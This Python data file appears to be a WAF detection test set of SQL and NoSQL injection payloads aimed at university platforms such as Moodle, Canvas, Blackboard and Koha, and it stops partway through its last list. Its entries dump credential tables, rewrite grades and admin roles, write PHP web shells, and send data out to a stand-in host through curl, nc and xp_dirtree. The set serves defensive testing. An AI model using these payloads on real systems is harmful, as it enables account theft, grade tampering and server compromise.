"""Blind set "twohundrednineteenth": SQL and NoSQL injection aimed at the software of schools, universities and
research institutes, with benign requests in which teachers, researchers, students and campus IT staff type the
same words innocently.

The angle: education and research platforms, recalled from memory. Each payload is written the way a tester aims
it at one campus system and its own parameters and tables: learning management systems (Moodle's mdl_ tables and
course/view.php?id=, gradebook sortitemid and tsort, Canvas on PostgreSQL with its pseudonyms and submissions,
Blackboard Learn on SQL Server or Oracle with users.system_role, Sakai's SAKAI_USER, ILIAS's usr_data and ref_id,
Chamilo's cidReq), their plugins (plagiarism and proctoring integrations, quiz and gradebook reports), student
information systems (PeopleSoft's PSOPRDEFN, Banner's SPRIDEN and GOBTPAC), library catalogues (Koha's borrowers
and biblionumber), institutional repositories (DSpace's eperson, EPrints, Omeka), JupyterHub's SQLite database,
Slurm's accounting database, LTI launch and Shibboleth/SAML attributes that reach a SQL lookup, journal systems
(OJS), and the Node/Mongo quiz and forum services some departments run. Each group of payloads carries a comment
naming its family, the system and the target (MySQL/MariaDB, PostgreSQL, SQL Server, Oracle, SQLite, MongoDB).

Families (category sqli; one sub-family per detection title):
  libinjection-sqli, sql-tautology-boolean, sql-comment-sequence, union-select, stacked-queries,
  time-based-blind (sleep/benchmark/pg_sleep/waitfor), error-based (extractvalue/updatexml/convert/cast),
  out-of-band (load_file/into outfile/xp_dirtree/utl_http/dblink), information-schema-probing,
  mysql-comment-obfuscation, function-based-probing (substring/ascii/char/concat), sql-authentication-bypass,
  nosql-injection (Mongo operators, $where), hex-char-encoding, stored-procedure-xp-cmdshell,
  having-group-order-by-probing, like-between-in-operators

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path) under the campus systems' own parameter names (id, courseid, ref_id, cidReq,
biblionumber, sortitemid, tsort, attempt, handle, eprintid, userid, q), once the way a WAF regression suite sends
it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get, /post, /search,
/api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names (foo, var, x, test, id, arg1), as a query
string, form body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a
cookie. Whole MongoDB login documents go as the JSON body; Express bracket operators (`username[$ne]=`) go as raw
`name=value` pairs. Payloads with a newline or tab never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family and of the
education platforms named, and the detection titles alone; no WAF rule, engine source, ruleset regression test or
public payload list was read. Measured once on unchanged code; deterministic (no clock, no randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet
from .records import print_records

NAME = "twohundrednineteenth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")
KV = ("form", "rs-raw-body")

# ----------------------------------------------------------------------------------------------------------------
# libinjection-sqli: short token streams that leave a string or number literal and turn the WHERE clause around
LIBINJECTION: list[Entry] = [
    # Moodle course/view.php?id= reaching a legacy block plugin that interpolates the id (MySQL/MariaDB)
    "5 or 1=1",
    "5 or 1=1-- -",
    "-5 or 2>1#",
    "5 || 1=1",
    # Moodle quiz report plugin, attempt id inside nested parentheses (MySQL)
    "17)) or ((1=1",
    "17) or (1=1",
    # Moodle local plugin quoting the id as a string (MySQL)
    "5' or '1'='1",
    "5'||'1'='1",
    "5') or ('a'='a",
    # ILIAS goto.php / ilias.php?ref_id= in an old repository plugin (MySQL)
    "71 or 1=1",
    # Chamilo course code cidReq in a legacy report (MySQL)
    "ABC101' or '1'='1",
    # Koha OPAC opac-detail.pl?biblionumber= and opac-search.pl?q= in a local customisation (MySQL)
    "42 or 1=1",
    "'or''='",
    # Canvas LMS on PostgreSQL: a custom report plugin building SQL from course_id
    "1' or '1'='1'--",
    "1' or true--",
    # DSpace handle lookup /handle/123456789/1 in an old JSPUI add-on (PostgreSQL)
    "123456789/1' or '1'='1",
    # EPrints cgi/export?eprintid= in a local plugin (MySQL)
    "101 or 1=1",
    # Omeka Classic items/browse?collection= (MySQL)
    "3 or true",
    # OJS article/view id in a third-party plugin (MySQL)
    "12' or 1=1#",
    # Blackboard Learn course_id=_123_1 on SQL Server and on Oracle
    "_123_1' or 1=1--",
    "_123_1' or 1=1 or 'a'='b",
    # Sakai site id ~admin in a contributed tool (MySQL)
    "~admin' or '1'='1",
    # JupyterHub SQLite database behind a custom admin page: user name
    "alice' or 1=1--",
    # Slurm accounting database (MySQL) behind a job-history portal: job id filter
    "1234 or 1=1",
    # PeopleSoft Campus Solutions EMPLID lookup (Oracle)
    "' or 1=1--",
    # Ellucian Banner self-service student id (Oracle)
    "'or 1=1 or'",
    # enrolment portal course code search (SQL Server)
    "CS101' or 'x'='x",
]

# sql-tautology/boolean: true/false pairs and conditions on the platform's own tables (a boolean oracle)
TAUTOLOGY: list[Entry] = [
    # Moodle gradebook grader report id=: the page differs between the true and false condition (MySQL)
    "1 and 1=1",
    "1 and 1=2",
    "3' and '1'='1",
    "3' and '1'='2",
    "2 and (select count(*) from mdl_user)>0",
    "2 and (select length(password) from mdl_user where username='admin')=60",
    "1 and (select value from mdl_config where name='siteadmins')='2'",
    "1 and (select count(*) from mdl_plagiarism_turnitin_files)>0",
    "2 or not 0",
    # Chamilo: is there a teacher (status 1) account (MySQL)
    "1' and (select count(*) from user where status=1)>0#",
    # ILIAS user table (MySQL)
    "1 and (select count(*) from usr_data)>0",
    # Koha patrons table (MySQL)
    "1' and (select count(*) from borrowers)>0#",
    "' or 3>2-- ",
    # OJS and Omeka (MySQL)
    "1 and (select count(*) from users)>0",
    "1 and (select count(*) from omeka_users)>0",
    # EPrints user table (MySQL)
    "1 and exists(select 1 from user)",
    # Slurm accounting database admin level (MySQL)
    "1 and (select max(admin_level) from slurm_acct_db.user_table)=3",
    # Canvas LMS (PostgreSQL)
    "1 and true",
    "1 and current_user='canvas'",
    "1 and pg_is_in_recovery()=false",
    # DSpace (PostgreSQL)
    "1 and (select count(*) from eperson)>0--",
    # Blackboard Learn on SQL Server: any course at all, any system administrator
    "_1_1' and (select count(*) from course_main)>0--",
    "_1_1' and exists(select 1 from users where system_role='Z')--",
    # Blackboard Learn on Oracle
    "' or exists(select 1 from users where user_id='administrator')--",
    # JupyterHub (SQLite)
    "' or (select count(*) from users where admin=1)>0--",
    # generic string tautology in a course catalogue search (any SQL database)
    "' or 'moodle'='moodle",
    "' or 'a'<>'b",
    # Banner (Oracle)
    "' or (select count(*) from spriden)>0--",
]

# sql-comment-sequence: comments that cut off the rest of the query or join two fields
COMMENT: list[Entry] = [
    # a legacy Moodle auth_db plugin building SQL from the login name (MySQL)
    "teacher'-- -",
    "admin'#",
    "admin'/*",
    # numeric ids with the tail of the query cut off (MySQL)
    "2-- -",
    "2#",
    "2/*",
    "2;-- -",
    "2) -- ",
    "'))#",
    "1'--+",
    # MySQL needs whitespace after '--': a newline does it
    "5 --\n",
    "5 #\nand 1=0",
    # two-field login form of an enrolment portal: the comment opens in the user name, closes in the password
    "student'/*",
    "*/ or 1=1#",
    # Chamilo cidReq and SIS course codes (MySQL)
    "abc'-- -",
    "ENG101'#",
    # Canvas (PostgreSQL): PostgreSQL comments, nested block comments are legal there
    "1'--",
    "1'/* /* */ */--",
    "1' or '1'='1' -- x",
    # Blackboard (SQL Server)
    "_2_1';--",
    "_2_1'/*",
    # Blackboard (Oracle)
    "1' --",
    # JupyterHub admin page (SQLite)
    "admin'--",
    # Koha OPAC (MySQL)
    "1' or 1=1 -- ",
    "1' limit 1-- -",
    "5 or 1=1;#",
    # DSpace (PostgreSQL)
    "1;--",
]

# union-select: read the platform's credential, token and configuration tables into the page
UNION: list[Entry] = [
    # Moodle (MySQL): user hashes, the legacy salt, web service tokens, sessions
    "-1 union select 1,username,password,4 from mdl_user-- -",
    "-1 union all select 1,concat(username,0x3a,password),3 from mdl_user where id=2#",
    "0 union select id,username,password,email,5,6 from mdl_user",
    "-2' union select 1,value,3 from mdl_config where name='passwordsaltmain'-- -",
    "-1 union select 1,token,3 from mdl_external_tokens-- -",
    "-1 union select sid,userid,3 from mdl_sessions#",
    "-1 union select 1,group_concat(username,0x3a,password separator 0x0a),3 from mdl_user#",
    # Canvas LMS (PostgreSQL): logins and access tokens
    "-1' union select null,unique_id,crypted_password from pseudonyms--",
    "-1 union select null,crypted_token,null from access_tokens--",
    "-1 union select null,version(),null--",
    # Blackboard Learn: users table on SQL Server and on Oracle
    "_1_1' union select user_id,passwd,null from users--",
    "' union select user_id,passwd from users where rownum=1--",
    "' union select name,password_hash from sys.sql_logins--",
    # Sakai (MySQL): EID and password hash
    "' union select m.EID,u.PW,3 from SAKAI_USER u join SAKAI_USER_ID_MAP m using(USER_ID)-- -",
    # ILIAS and Chamilo (MySQL)
    "-1 union select login,passwd,email from usr_data-- -",
    "-1' union select username,password,email,4 from user-- -",
    # Koha (MySQL): staff and patron logins, system preferences
    "-1 union select userid,password,cardnumber from borrowers#",
    "0 union select 1,value,3 from systempreferences where variable='OpacBaseURL'#",
    # DSpace (PostgreSQL), EPrints and Omeka (MySQL), OJS (MySQL)
    "-1 union select email,password,salt from eperson--",
    "-1 union select username,password,email from user-- -",
    "-1 union select username,password,salt,4 from omeka_users#",
    "-1 union select username,password,email from users-- -",
    # Mahara ePortfolio (PostgreSQL)
    "-1 union select username,password,salt from usr--",
    # JupyterHub (SQLite): user cookies and API token hashes
    "' union select name,cookie_id,admin from users--",
    "' union select hashed,user_id,null from api_tokens--",
    # PeopleSoft Campus Solutions and Ellucian Banner (Oracle)
    "' union select oprid,operpswd from psoprdefn--",
    "' union select gobtpac_pidm,gobtpac_pin from gobtpac--",
    # a department quiz page (MySQL): the server identity
    "1' union select @@version,user(),database()#",
]

# stacked-queries: a second statement that changes grades, roles or passwords
STACKED: list[Entry] = [
    # Moodle (MySQL with multi-statement driver): grade tampering, admin rights, log cleaning
    "1; update mdl_grade_grades set finalgrade=100 where userid=57-- -",
    "1'; update mdl_quiz_attempts set sumgrades=10 where userid=57-- -",
    "1;update mdl_config set value='57' where name='siteadmins'#",
    "1; insert into mdl_role_assignments(roleid,contextid,userid) values(1,1,57)-- -",
    "1; update mdl_user set auth='manual',password=md5('x') where id=2-- -",
    "1'; delete from mdl_logstore_standard_log where userid=57-- -",
    "1'; truncate mdl_quiz_attempts-- -",
    # Canvas LMS (PostgreSQL): scores, account admins, passwords
    "1; update submissions set score=100, grade='A' where user_id=42--",
    "1'; insert into account_users(account_id,user_id,role_id) values(1,42,1)--",
    "1; update pseudonyms set crypted_password='x' where unique_id='admin@uni.edu'--",
    "1; drop table submissions--",
    "1';alter user postgres with password 'x'--",
    # Blackboard Learn (SQL Server): system administrator role, gradebook score
    "_1_1'; update users set system_role='Z' where user_id='student1'--",
    "_1_1'; update gradebook_grade set manual_score=100 where course_users_pk1=42--",
    "1'; shutdown with nowait--",
    # Koha (MySQL): superlibrarian flag
    "1; update borrowers set flags=1 where userid='guest'#",
    # ILIAS and Chamilo (MySQL)
    "1; update usr_data set passwd=md5('x'),passwd_enc_type='md5' where login='root'-- -",
    "1'; update user set status=1 where username='student'-- -",
    # DSpace (PostgreSQL): take over the administrator e-person
    "1; update eperson set can_log_in=true, email='x@evil.test' where email='admin@uni.edu'--",
    # OJS, Omeka, EPrints (MySQL)
    "1; insert into user_user_groups(user_group_id,user_id) values(1,42)-- -",
    "1; update omeka_users set role='super' where username='student'#",
    "1; update user set usertype='admin' where username='student'-- -",
    # Sakai (MySQL): maintain role in a site realm
    "1'; insert into SAKAI_REALM_RL_GR(REALM_KEY,USER_ID,ROLE_KEY,ACTIVE,PROVIDED) values(1,'student',1,'1','0')-- -",
    # JupyterHub (SQLite via executescript): make a user admin
    "x'; update users set admin=1 where name='alice'--",
    # Slurm accounting database (MySQL): administrator level for a student account
    "1; update user_table set admin_level=3 where name='student'-- -",
    # MySQL: a new database superuser
    "1; grant all privileges on *.* to 'stud'@'%' identified by 'x'-- -",
]

# time-based-blind: sleep, benchmark, pg_sleep, waitfor and heavy queries as the oracle
TIME: list[Entry] = [
    # Moodle (MySQL)
    "2 and sleep(5)",
    "2' and sleep(5)-- -",
    "2' and if(substr((select password from mdl_user where id=2),1,4)='$2y$',sleep(5),0)#",
    "2 and (select 1 from (select sleep(5))x)",
    "1 or benchmark(5000000,md5(1))",
    "2' and benchmark(10000000,sha1('moodle'))#",
    "1'xor(if(now()=sysdate(),sleep(5),0))xor'z",
    "(select(0)from(select(sleep(5)))v)",
    "1 rlike sleep(5)",
    # Koha, Chamilo, ILIAS, OJS (MySQL)
    "1' and sleep(5) and '1'='1",
    "1 and (select sleep(5) from user where username='admin' and status=1)",
    "1 and if(ascii(substr((select passwd from usr_data where login='root'),1,1))>52,sleep(3),0)",
    "1 and sleep(5)#",
    # Slurm accounting (MySQL)
    "1) and sleep(10)#",
    # Canvas LMS and DSpace (PostgreSQL)
    "1;select pg_sleep(5)--",
    "1' and 1=(select 1 from pg_sleep(5))--",
    "1' || pg_sleep(5)--",
    "1 and (select case when (select count(*) from pseudonyms)>0 then pg_sleep(5) else pg_sleep(0) end) is null",
    "1');select pg_sleep(10)--",
    # Blackboard Learn (SQL Server)
    "_1_1';waitfor delay '0:0:5'--",
    "1 if (select count(*) from users)>0 waitfor delay '0:0:5'--",
    "1; if(system_user='sa') waitfor delay '00:00:05'--",
    "');waitfor delay '0:0:5'--",
    # Blackboard Learn and Banner (Oracle)
    "1' and 1=dbms_pipe.receive_message('a',5)--",
    "' || dbms_pipe.receive_message(('a'),5) || '",
    "1' and (select count(*) from all_objects a, all_objects b)>0--",
    # JupyterHub (SQLite): no sleep, a heavy function instead
    "' and 1=randomblob(500000000)--",
    "' and 1=like('ABCDEFG',upper(hex(randomblob(300000000))))--",
]

# error-based: the database error message carries the data back
ERROR: list[Entry] = [
    # Moodle (MySQL): XML functions, duplicate key, overflow, GTID and JSON errors
    "2 and extractvalue(1,concat(0x7e,(select username from mdl_user where id=2)))",
    "2' and updatexml(1,concat(0x7e,(select password from mdl_user limit 1,1)),1)-- -",
    "1 and extractvalue(rand(),concat(0x3a,version()))",
    "1 and (select 1 from (select count(*),concat((select value from mdl_config where name='passwordsaltmain'),"
    "floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "1 and exp(~(select * from (select user())x))",
    "1 and gtid_subset(concat(0x7e,(select database())),1)",
    "1 and json_keys((select convert((select @@version) using utf8)))",
    "1 and geometrycollection((select * from(select * from(select user())a)b))",
    "1 and (select * from (select name_const(version(),1),name_const(version(),1))a)",
    # Koha, ILIAS, OJS (MySQL)
    "1 and updatexml(null,concat(0x0a,(select password from borrowers where flags=1 limit 1)),null)",
    "1' and extractvalue(0,concat(0x5c,(select passwd from usr_data where login='root')))#",
    "1 and row(1,1)>(select count(*),concat(version(),floor(rand(0)*2)) from information_schema.columns group by 2)",
    # Canvas LMS, DSpace, Mahara (PostgreSQL): cast a string to a number
    "1 and 1=cast((select crypted_password from pseudonyms limit 1) as int)--",
    "1' and 1=cast(version() as integer)--",
    "' and 1=(select unique_id from pseudonyms limit 1)::int--",
    "1 and 1=cast((select email from eperson limit 1) as numeric)--",
    "1 and 1=cast((select password from usr where username='admin') as int)",
    # Blackboard Learn (SQL Server): convert and implicit conversion
    "_1_1' and 1=convert(int,(select top 1 passwd from users))--",
    "1 and 1=convert(int,@@version)--",
    "' and 1=cast(db_name() as int)--",
    "1' and 1=(select top 1 user_id from users where system_role='Z')--",
    "' + convert(int,(select top 1 name from sysobjects where xtype='U')) + '",
    # Blackboard Learn, Banner, PeopleSoft (Oracle)
    "' and 1=ctxsys.drithsx.sn(1,(select user from dual))--",
    "' and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "' and (select upper(xmltype(chr(60)||chr(58)||(select user from dual)||chr(62))) from dual) is not null--",
    "' and 1=dbms_xdb_version.checkin((select oprid from psoprdefn where rownum=1))--",
]

# out-of-band: read config files, write a web shell, or leak to an outside host (DNS/HTTP/SMB)
OOB: list[Entry] = [
    # Moodle, OJS, Koha (MySQL with FILE privilege): the configuration files that hold the database password
    "-1 union select 1,load_file('/var/www/html/moodle/config.php'),3-- -",
    "-1' union select load_file('/var/www/ojs/config.inc.php'),2-- -",
    "-1 union select load_file('/etc/koha/sites/library/koha-conf.xml'),2,3#",
    # Moodle on a Windows server (MySQL): the hash leaks through a UNC path's DNS lookup
    "1 and load_file(concat('\\\\\\\\',(select password from mdl_user where id=2),'.oob.example.net\\\\a'))",
    # Moodle and ILIAS and Chamilo (MySQL): a PHP web shell into the web root
    "-1 union select '<?php system($_GET[c]);?>',2,3 into outfile '/var/www/html/moodle/local/x.php'-- -",
    "1' into outfile '/var/www/html/ilias/data/sh.php' lines terminated by "
    "0x3c3f706870206576616c28245f504f53545b615d293b3f3e-- -",
    "-1 union select 1,'<?php passthru($_GET[0]);?>' into dumpfile '/var/www/chamilo/app/upload/x.php'#",
    # Canvas LMS (PostgreSQL superuser): command output to an outside host, config files, dblink
    "1; copy (select '') to program 'curl http://oob.example.net/$(whoami)'--",
    "1'; copy (select unique_id||':'||crypted_password from pseudonyms) to program 'nc oob.example.net 80'--",
    "1 union select null,pg_read_file('/var/canvas/config/database.yml'),null--",
    "1; select lo_import('/var/canvas/config/security.yml')--",
    "1; select dblink_connect('host=oob.example.net user='||current_user||' dbname=x')--",
    "1'; select * from dblink('host=oob.example.net dbname=x','select 1') as t(a int)--",
    # DSpace (PostgreSQL): its local.cfg, /etc/passwd into a table
    "1; select pg_read_file('/dspace/config/local.cfg')--",
    "1; create table t(x text); copy t from '/etc/passwd'--",
    # Blackboard Learn (SQL Server): SMB authentication to an outside host, the server's config file
    "_1_1'; exec master..xp_dirtree '\\\\oob.example.net\\x'--",
    "'; exec master..xp_subdirs '\\\\oob.example.net\\share'--",
    "'; declare @p varchar(99); select @p=(select top 1 passwd from users); "
    "exec('master..xp_dirtree ''\\\\'+@p+'.oob.example.net\\a''')--",
    "1; select * from openrowset(bulk 'c:\\blackboard\\config\\bb-config.properties', single_clob) as x--",
    # Blackboard Learn, Banner (Oracle): HTTP, DNS, LDAP and XXE callbacks
    "' and 1=utl_http.request('http://oob.example.net/'||(select user from dual))--",
    "' || utl_http.request('http://oob.example.net/bb?p='||(select passwd from users where rownum=1)) || '",
    "' and utl_inaddr.get_host_address((select user from dual)||'.oob.example.net') is not null--",
    "' and 1=dbms_ldap.init('oob.example.net',389)--",
    "' and httpuritype('http://oob.example.net/'||user).getclob() is not null--",
    "' and (select extractvalue(xmltype('<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % x SYSTEM "
    "\"http://oob.example.net/\">%x;]>'),'/l') from dual) is not null--",
    # a PHP gradebook add-on on SQLite: a new database file in the web root is a PHP shell
    "'; attach database '/var/www/html/grades/x.php' as p; create table p.t(c text); "
    "insert into p.t values('<?php system($_GET[0]);?>')--",
]

# information-schema / catalog probing: list the platform's tables, columns, databases and accounts
CATALOG: list[Entry] = [
    # Moodle (MySQL)
    "-1 union select 1,group_concat(table_name),3 from information_schema.tables where table_schema=database()#",
    "-1 union select 1,group_concat(column_name),3 from information_schema.columns where table_name='mdl_user'-- -",
    "1 and (select count(*) from information_schema.tables where table_name like 'mdl\\_%')>400",
    "-1 union select table_schema,table_name,3 from information_schema.tables where table_name like '%quiz%'#",
    "1' and exists(select 1 from information_schema.columns where column_name='sesskey')-- -",
    "-1 union select 1,schema_name,3 from information_schema.schemata-- -",
    "-1 union select 1,group_concat(user,0x3a,host),3 from mysql.user#",
    # Koha (MySQL), information_schema filtered: the InnoDB and sys statistics tables
    "1 and (select count(*) from mysql.innodb_table_stats where table_name='borrowers')=1",
    "-1 union select 1,group_concat(table_name),3 from sys.schema_table_statistics where table_schema=database()#",
    "-1 union select 1,group_concat(distinct object_name),3 from performance_schema.table_io_waits_summary_by_table#",
    # Canvas LMS and DSpace (PostgreSQL)
    "-1 union select null,string_agg(table_name,','),null from information_schema.tables where table_schema='public'--",
    "1' union select null,string_agg(column_name,','),null from information_schema.columns "
    "where table_name='pseudonyms'--",
    "1 and (select count(*) from pg_tables where tablename='eperson')=1--",
    "-1 union select null,datname,null from pg_database--",
    "-1 union select null,usename||':'||passwd,null from pg_shadow--",
    # Blackboard Learn (SQL Server)
    "_1_1' union select name,null from sysobjects where xtype='U'--",
    "' union select table_name,column_name from information_schema.columns where table_name='users'--",
    "' and 1=(select count(*) from sys.tables where name='gradebook_grade')--",
    "' union select name,null from master..sysdatabases--",
    # Blackboard Learn and Banner (Oracle)
    "' union select table_name,null from all_tables where owner='BB_BB60'--",
    "' union select column_name,data_type from all_tab_columns where table_name='USERS'--",
    "' union select owner,table_name from all_tables where table_name like 'SPRIDEN%'--",
    "' union select username,null from all_users--",
    # JupyterHub (SQLite)
    "' union select name,sql,null from sqlite_master where type='table'--",
    "' and (select count(*) from sqlite_master where tbl_name='oauth_clients')>0--",
    "' union select group_concat(name),2 from pragma_table_info('api_tokens')--",
]

# mysql-comment-obfuscation: MySQL inline and versioned comments around and inside the keywords
MYCOMMENT: list[Entry] = [
    # Moodle (MySQL)
    "1/**/union/**/select/**/1,username,password/**/from/**/mdl_user#",
    "1/*!50000union*//*!50000select*/1,2,3-- -",
    "-1 /*!UNION*/ /*!SELECT*/ username,password,3 from mdl_user",
    "1'/*!or*/1=1#",
    "1 /*!12345and*/ sleep(5)",
    "1/*foo*/or/*bar*/1=1",
    "1/*!*/and/*!*/1=1",
    "1 and (/*!50000select*/ length(password) /*!from*/ mdl_user where id=2)=60",
    "1/*!union*//*!all*//*!select*/1,@@version,3",
    "1'/**/and/**/(select/**/1/**/from/**/mdl_user/**/where/**/username='admin')=1#",
    "1/**_**/union/**_**/select/**_**/1,2,3",
    "1/*!12345UNION SELECT*/1,2,3",
    "1'/*!40000 or*/'a'='a",
    # a filter that strips '/**/' once before the query (legacy Moodle block): the keyword joins again
    "-1 un/**/ion sel/**/ect 1,2,3",
    # Koha (MySQL)
    "-1/*!00000union*/all/*!00000select*/1,concat(userid,0x3a,password),3/**/from/**/borrowers#",
    "1'/*!50000and*/extractvalue(1,concat(0x7e,user()))-- -",
    # ILIAS (MySQL): hash comments that end at a newline
    "1#foo\nunion#bar\nselect 1,version(),3",
    "1-- x\nunion-- y\nselect login,passwd,3 from usr_data",
    "1'-- x\nand sleep(5)-- -",
    # ILIAS ref_id, parameter pollution: a comment spans the next parameter
    "-1 union/*&cmd=*/select 1,2,3",
    # Chamilo and OJS (MySQL)
    "1 UnIoN/**/SeLeCt 1,2,3",
    "1 union/**/distinct/**/select 1,2,3",
    "-1/*!50000union*/(/*!50000select*/username,password,email/**/from/**/users)",
    "1/*!and*/(select/**/count(*)/**/from/**/user)>0",
    # EPrints, Omeka (MySQL)
    "1/*!50000or*/1#",
    "-1/*!UNION*//*!SELECT*/username,password,salt,4/**/from/**/omeka_users",
]

# function-based-probing: substring, ascii, char, concat and friends read one character at a time
FUNCTION: list[Entry] = [
    # Moodle (MySQL)
    "1 and ascii(substring((select password from mdl_user where username='admin'),5,1))>77",
    "1 and substring(@@version,1,1)=8",
    "1' and mid(user(),1,4)='root'#",
    "1 and ord(mid((select username from mdl_user where id=2),1,1))=97",
    "1 and left(database(),6)='moodle'",
    "1 and char_length((select value from mdl_config where name='passwordsaltmain'))>0",
    "-1 union select 1,concat_ws(0x3a,username,password,email),3 from mdl_user#",
    "1 and field(substr(version(),1,1),'5','8')=2",
    "1 and conv(hex(substr(user(),1,1)),16,10)=114",
    # Koha, ILIAS (MySQL)
    "1 and strcmp(substr(database(),1,1),'k')=0",
    "1 and locate('ilias',database())=1",
    "1 and instr((select passwd from usr_data where login='root'),'$2y')=1",
    # Canvas LMS (PostgreSQL)
    "1 and ascii(substr((select crypted_password from pseudonyms limit 1),1,1))>64--",
    "1 and substring(current_database(),1,6)='canvas'--",
    "' and (select left(unique_id,1) from pseudonyms where id=1)=chr(97)--",
    "1 and length(current_user)>3--",
    # Blackboard Learn (SQL Server)
    "' and ascii(substring((select top 1 passwd from users),1,1))>50--",
    "' and substring(system_user,1,2)='sa'--",
    "' and unicode(substring(db_name(),1,1))=66--",
    "' and len((select top 1 user_id from users))>4--",
    # Blackboard Learn, Banner (Oracle)
    "' and ascii(substr((select user from dual),1,1))>64--",
    "' and substr((select banner from v$version where rownum=1),1,6)='Oracle'--",
    "' and length((select spriden_id from spriden where rownum=1))=9--",
    "' and concat((select user from dual),'x')='BANINST1x'--",
    # JupyterHub (SQLite): token hash prefix, library version
    "' and substr((select hashed from api_tokens limit 1),1,1)='s'--",
    "' and unicode(substr(sqlite_version(),1,1))=51--",
]

# sql-authentication-bypass: login forms, SSO attributes and LTI fields that reach a SQL lookup
AUTH: list[Entry] = [
    # a legacy Moodle external-database auth plugin (MySQL): username field
    "admin' or '1'='1' -- ",
    "' or 1=1 limit 1-- -",
    "x' or username='admin'-- -",
    "admin')-- -",
    # Koha OPAC and staff login (MySQL): the first superlibrarian
    "' or flags=1-- -",
    "koha' or '1'='1",
    # Chamilo, ILIAS, OJS login (MySQL)
    "admin'or'1'='1",
    "root'-- -",
    "admin' or 1=1#",
    # a fake row: the login query returns our user with md5('admin') as its hash (MySQL)
    "' union select 1,'admin','21232f297a57a5a743894a0e4a801fc3',1-- -",
    # Shibboleth eppn / SAML NameID handed to a local account lookup (any SQL database)
    "student@uni.edu' or 1=1-- -",
    "admin@university.edu'-- ",
    # LTI 1.1 launch: lis_person_contact_email_primary and user_id in a tool provider's SQL
    "instructor@uni.edu' or roles like '%Instructor%'-- ",
    "' or ''='",
    # Canvas LMS (PostgreSQL): pseudonym lookup
    "admin@school.edu'--",
    "' or 1=1 and unique_id like 'admin%'--",
    # JupyterHub with a SQL-backed authenticator (SQLite)
    "admin' or admin=1--",
    # Blackboard Learn (SQL Server, Oracle)
    "administrator'--",
    "' or system_role='Z'--",
    "' or 1=1 and rownum=1--",
    # password field of a proctoring integration's exam login
    "anything' or 'x'='x",
    "') or ('x')=('x",
    "1' or '1'='1'))-- -",
    "' or exam_code is not null-- ",
    # student number field of an enrolment portal
    "s1234567' or '1'='1",
    # SQLite-backed quiz tool: double-quoted string context
    '" or ""="',
]

# nosql-injection: MongoDB operators and $where in Node/Express and Parse-based campus apps
NOSQL: list[Entry] = [
    # Express + Mongoose quiz app login (bracket syntax parsed by qs into operators)
    ("username[$ne]=&password[$ne]=",) + KV,
    ("email[$regex]=^prof&password[$ne]=1",) + KV,
    ("student_id[$gt]=&pin[$gt]=",) + KV,
    ("username=admin&password[$regex]=^a",) + KV,
    ("password[$in][]=123456&password[$in][]=password&username=registrar",) + KV,
    ("username[$nin][]=guest&password[$ne]=x",) + KV,
    ("user[$exists]=true&pass[$exists]=true",) + KV,
    # course discussion forum service on MongoDB: list every thread, read every token
    ("course_id[$ne]=null",) + KV,
    ("token[$regex]=.*",) + KV,
    ("commentable_id[$ne]=x",) + KV,
    # JSON login documents (MongoDB)
    ('{"username": {"$ne": null}, "password": {"$ne": null}}',) + JB,
    ('{"email": {"$regex": "@uni\\\\.edu$"}, "password": {"$gt": ""}}',) + JB,
    ('{"username": "admin", "password": {"$regex": "^.{8}$"}}',) + JB,
    ('{"username": {"$in": ["admin", "root", "moodle"]}, "password": {"$nin": [""]}}',) + JB,
    ('{"$or": [{}, {"role": "student"}], "password": {"$ne": ""}}',) + JB,
    ('{"email": {"$regex": "^a", "$options": "i"}, "otp": {"$ne": "000000"}}',) + JB,
    # MongoDB $where: server-side JavaScript, a timing oracle and a grade probe
    ('{"$where": "this.role == \'instructor\' || sleep(5000)"}',) + JB,
    ('{"$where": "function() { return this.grade >= 0 }"}',) + JB,
    # Parse Server (a campus app backend): where clause as JSON
    ('{"where": {"username": {"$regex": "^adm"}}}',) + JB,
    # MongoDB aggregation pipeline accepted from the client: join the users collection
    ('{"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}}]}',)
    + JB,
    # string context inside a $where built by concatenation (MongoDB JavaScript)
    "' || '1'=='1",
    "';sleep(5000);'",
    "1;return true",
    "' && this.password.match(/^a/)//",
    "'; return this.role == 'admin'; var x='",
    # a query parameter the app JSON.parses into the filter
    '{"$gt": ""}',
]

# hex/char encoding: strings and whole statements written as hex, char(), chr() or blob literals
ENCODING: list[Entry] = [
    # Moodle (MySQL): 'admin' as hex and char(), binary introducer, bit literal
    "-1 union select 1,username,3 from mdl_user where username=0x61646d696e#",
    "1 and substr((select password from mdl_user where username=char(97,100,109,105,110)),1,3)=0x243279",
    "1 and exists(select 1 from mdl_user where username=_binary 0x61646d696e)",
    "1' and b'01110010'=substr(user(),1,1)#",
    "-1 union select 1,x'61646d696e',3#",
    "1 and hex(substr((select password from mdl_user where id=2),1,1))=0x3234",
    # a Moodle gradebook page: stored XSS written through the query as hex
    "-1 union select 1,0x3c7363726970743e616c65727428646f63756d656e742e636f6f6b6965293c2f7363726970743e,3#",
    # OJS and Chamilo (MySQL): file names and a web shell as hex
    "-1 union select 1,load_file(0x2f6574632f706173737764),3",
    "-1' union select 1,unhex('3c3f7068702073797374656d28245f4745545b635d293b3f3e'),3 "
    "into outfile '/var/www/chamilo/app/upload/s.php'-- -",
    # Koha (MySQL): a hidden statement through a prepared statement built from hex
    "1;set @q=0x73656c65637420736c6565702835293b;prepare s from @q;execute s;-- -",
    "1' and userid=0x737570657275736572#",
    # Canvas LMS (PostgreSQL): chr(), dollar quoting, base64-decoded dynamic SQL
    "1 and current_user=chr(99)||chr(97)||chr(110)||chr(118)||chr(97)||chr(115)--",
    "1' and unique_id=$$admin$$--",
    "1; do $$begin execute convert_from(decode('c2VsZWN0IHBnX3NsZWVwKDUp','base64'),'utf8'); end$$--",
